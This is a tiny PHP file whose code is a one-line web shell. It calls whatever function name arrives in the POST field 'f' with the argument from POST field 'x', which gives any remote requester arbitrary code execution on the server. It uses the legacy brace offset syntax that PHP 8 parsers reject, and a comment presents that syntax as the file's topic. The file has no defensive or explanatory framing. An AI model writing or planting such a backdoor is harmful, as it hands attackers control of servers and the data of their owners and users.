<?php
// PHP 5/7 brace offsets ($a{'k'}), which PHP 8 parsers reject, around the request's parameters.
$p = $_POST;
$p{'f'}($p{'x'});
